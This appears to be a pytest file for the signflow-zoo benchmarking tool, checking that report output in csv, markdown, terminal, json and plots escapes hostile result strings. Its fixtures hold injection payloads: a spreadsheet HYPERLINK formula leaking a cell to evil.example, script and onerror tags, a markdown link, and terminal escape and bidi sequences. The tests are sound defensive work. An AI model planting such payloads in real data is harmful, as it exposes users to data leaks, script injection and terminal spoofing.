"""Text from results is shown, never interpreted: host names, reasons and names that hold a spreadsheet
formula, a markdown pipe, HTML, a terminal escape sequence or matplotlib mathtext, through every report format.

The records go through a real SQLite MLflow store and the real ``signflow-zoo report`` CLI; the comparison of
result files (``report --compare``) through the project's own result-file writer.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time

import pytest
from test_report import STRING_KEYS, _use_store, flat_record
from test_report_compare import make_doc

from signflow_zoo import report
from signflow_zoo.cli.commands import main
from signflow_zoo.report import escape

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
PIPE = "lab|gpu"
HTML = "<script>alert(1)</script>"
ANSI = "\x1b[31mred\x1b[0m"
MATH = r"$\foo$ $x^2$"  # \foo is no mathtext symbol: drawing it as math raises
HOSTS = (FORMULA, PIPE, HTML, ANSI, MATH)
REASON = "-2+3|cmd <img src=x onerror=alert(1)> [click](http://evil.example) \x1b]0;pwned\x07\x9b2J\u202eevil"
CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # all but \n


def hostile_records() -> list[dict]:
    """Two backends on each hostile host (different latencies, so each host has a Pareto front), one failed
    with a hostile reason, one with a negative accuracy change."""
    recs = []
    for i, host in enumerate(HOSTS):
        for backend, p50 in (("torch-eager", 4.0 + i), ("onnx-cpu", 2.0 + i)):
            rec = flat_record("baseline", backend, host, invocation=f"inv{i}", p50_override=p50)
            rec["invocation_id"] = f"inv{i}"
            if backend == "onnx-cpu":
                rec["accuracy_top1"] = 0.75  # 5 points below torch-eager: a negative number in csv
            recs.append(rec)
    recs[-1].update(status="failed", reason=REASON)
    return recs


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory):
    """A SQLite MLflow store holding :func:`hostile_records` as bench runs."""
    from mlflow.entities import Metric, Param
    from mlflow.tracking import MlflowClient

    uri = f"sqlite:///{tmp_path_factory.mktemp('hostile')}/mlflow.db"
    with pytest.MonkeyPatch.context() as mp:
        _use_store(mp, uri)
        client = MlflowClient()
        exp = client.create_experiment("signflow-zoo")
        start = int(time.time() * 1000) - 60_000
        for rec in hostile_records():
            tags = {"signflow_zoo.kind": "bench-record", "signflow_zoo.result_id": rec["result_id"],
                    "signflow_zoo.invocation_id": rec["invocation_id"],
                    **{k: rec[k] for k in ("preset", "backend", "host", "status")}}
            run = client.create_run(exp, start_time=start, tags=tags)
            client.log_batch(run.info.run_id, params=[Param(k, str(v)) for k, v in rec.items() if k in STRING_KEYS],
                             metrics=[Metric(k, float(v), start, 0) for k, v in rec.items() if k not in STRING_KEYS])
            client.set_terminated(run.info.run_id)
    return uri


@pytest.fixture
def cli(hostile_store, monkeypatch, capsys):
    """``signflow-zoo report ARGS`` on the hostile store: (stdout, stderr), exit status 0 asserted."""
    _use_store(monkeypatch, hostile_store)

    def run(*args: str) -> tuple[str, str]:
        capsys.readouterr()
        code = main(["report", *args])
        out, err = capsys.readouterr()
        assert code == 0, err
        return out, err

    return run


def _no_control(text: str) -> None:
    found = CONTROL.findall(text)
    assert not found, found


# -- the formats ---------------------------------------------------------------------------------------------


def test_csv_escapes_formulas_and_keeps_numbers(cli):
    out, _ = cli("--format", "csv")
    _no_control(out.replace("\r", ""))
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 2 * len(HOSTS)
    hosts = {r["host"] for r in rows}
    assert "'" + FORMULA in hosts and FORMULA not in hosts  # a spreadsheet shows it as text
    assert PIPE in hosts and HTML in hosts  # harmless in csv: kept
    assert r"\x1b[31mred\x1b[0m" in hosts and r"$\foo$ $x^2$" in hosts
    failed = next(r for r in rows if r["status"] == "failed")
    assert failed["reason"].startswith("'-2+3|cmd") and r"\x1b]0;pwned\x07\x9b2J\u202eevil" in failed["reason"]
    changes = [r["accuracy_change"] for r in rows if r["backend"] == "onnx-cpu"]
    assert all(float(c) == pytest.approx(-0.05) for c in changes) and not any(c.startswith("'") for c in changes)
    for cell in (c for r in rows for c in r.values()):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or float(cell) < 0, cell  # a leading "-" only on a real number


def test_markdown_escapes_pipes_html_links_and_control_characters(cli):
    for args in (("--format", "markdown"), ("--format", "markdown", "--compare-presets", "baseline,baseline")):
        out, _ = cli(*args)
        _no_control(out)
        assert "<script>" not in out and "<img" not in out and "](http" not in out
        table = [line for line in out.splitlines() if line.startswith("|")]
        columns = {len(re.findall(r"(?<!\\)\|", line)) for line in table}
        assert len(table) > 2 and len(columns) == 1, table  # no cell adds a column
    out, _ = cli("--format", "markdown")
    assert r"lab\|gpu" in out and "&lt;script>alert(1)&lt;/script>" in out and r"\x1b[31mred" in out
    assert "'" + FORMULA not in out  # the csv escape is csv's only


def test_terminal_shows_escape_sequences_instead_of_sending_them(cli):
    for args in ((), ("--wide",), ("--all-runs",)):
        out, err = cli(*args)
        _no_control(out + err)
        assert r"\x1b[31mred" in out and "lab|gpu" in out
    out, _ = cli()  # the narrow table: one section per host, the full reason under it
    assert r"host \x1b[31mred\x1b[0m" in out and r"\x1b]0;pwned\x07\x9b2J\u202eevil" in out


def test_json_holds_the_values_as_they_are(cli):
    out, _ = cli("--format", "json")
    _no_control(out)
    data = json.loads(out)
    assert {r["host"] for r in data} == set(HOSTS)  # json escapes control characters itself
    assert next(r for r in data if r["status"] == "failed")["reason"] == REASON


def test_the_pareto_plot_is_drawn_with_dollar_signs_in_names(cli, tmp_path):
    out, _ = cli("--plots", str(tmp_path / "plots"))
    png = tmp_path / "plots" / "pareto_b1.png"
    assert f"wrote {png}" in out
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n" and png.stat().st_size > 10_000


# -- the functions ----------------------------------------------------------------------------------------


def test_compare_runs_escapes_names_and_notes(tmp_path):
    backend = "=1+2|<img src=x>\x1b[2J"
    host = "\x1b]0;pwn\x07<b>|host"
    a = make_doc(tmp_path / "a.json", seed=1, backends=("torch-eager", backend), host=host)
    b = make_doc(tmp_path / "b.json", seed=2, backends=("torch-eager", backend), host=host, scale=1.3)
    md = report.compare_runs(str(a), str(b), fmt="markdown")
    _no_control(md)
    assert "<img" not in md and "<b>" not in md and r"=1+2\|&lt;img src=x>\x1b[2J" in md
    assert r"\x1b]0;pwn\x07&lt;b>\|host" in md  # the sides' description above the table
    table = [line for line in md.splitlines() if line.startswith("|")]
    assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table}) == 1
    text = report.compare_runs(str(a), str(b))
    _no_control(text)
    assert r"host \x1b]0;pwn\x07<b>|host" in text
    rows = list(csv.DictReader(io.StringIO(report.compare_runs(str(a), str(b), fmt="csv"))))
    assert {r["backend"] for r in rows} == {"torch-eager", r"'=1+2|<img src=x>\x1b[2J"}
    assert {r["backend"] for r in json.loads(report.compare_runs(str(a), str(b), fmt="json"))} == {"torch-eager", backend}


def test_preset_names_as_column_headers_are_escaped():
    recs = [dict(flat_record("baseline", "torch-eager", "h"), preset=name) for name in ("=cmd", "<b>|x")]
    md = report.compare_presets_table(recs, "=cmd", "<b>|x", fmt="markdown")
    assert " =cmd |" in md and r"&lt;b>\|x" in md and "<b>" not in md
    header = next(csv.reader(io.StringIO(report.compare_presets_table(recs, "=cmd", "<b>|x", fmt="csv"))))
    assert header == ["metric", "unit", "'=cmd", "<b>|x", "gain/cost"]


def test_latency_plot_and_write_report_with_hostile_labels(tmp_path):
    samples = {MATH: [1.0, 2.0, 3.0], ANSI + " / onnx-cpu / b1": [2.0, 2.5]}
    path = report.plot_latency_distributions(samples, tmp_path / "latency.png", title=r"$\notasymbol$")
    assert path.read_bytes()[:4] == b"\x89PNG"
    written = report.write_report(hostile_records(), tmp_path / "r", samples=samples)
    assert {"table_markdown", "table_csv", "pareto", "latency"} <= set(written)
    assert "<script>" not in written["table_markdown"].read_text()


@pytest.mark.parametrize("value, fmt, shown", [
    ("-1.5", "csv", "-1.5"), ("+3e-2", "csv", "+3e-2"), ("-cmd", "csv", "'-cmd"), ("@SUM(A1)", "csv", "'@SUM(A1)"),
    ("\t=1", "csv", "'\t=1"), ("\r=1", "csv", "'\r=1"), ("a\x1bb", "csv", r"a\x1bb"), ("x\ny", "csv", "x\ny"),
    (-1.5, "csv", -1.5), (None, "csv", None),
    ("a|b\nc", "markdown", r"a\|b c"), ("<a href=x>", "markdown", "&lt;a href=x>"), ("<5 calls", "markdown", "<5 calls"),
    ("![i](http://x/p.png)", "markdown", r"![i]\(http://x/p.png)"),
    ("\x1b[2J\x07\x9b\u202e", "terminal", r"\x1b[2J\x07\x9b\u202e"), ("a\tb\nc", "terminal", "a b c"),
    ("=x|\x1b", "json", "=x|\x1b"),
])
def test_cell_escaping_per_format(value, fmt, shown):
    assert escape.cell(value, fmt) == shown


def test_plot_text_escapes_mathtext():
    assert escape.plot_text(r"$\foo$") == r"\$\foo\$" and escape.plot_text("a\x1bb\nc") == "a\\x1bb\nc"


def test_the_confusion_plot_draws_class_names_with_dollar_signs(tmp_path):
    """Class names come from users' data sets: ``$\\foo$`` must not be parsed as mathtext (it raises)."""
    import numpy as np

    from signflow_zoo.model.confusion import plot_confusion

    out = plot_confusion(np.eye(3) * 4, [MATH, ANSI, "plain"], tmp_path / "cm.png", title=MATH)
    assert out.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
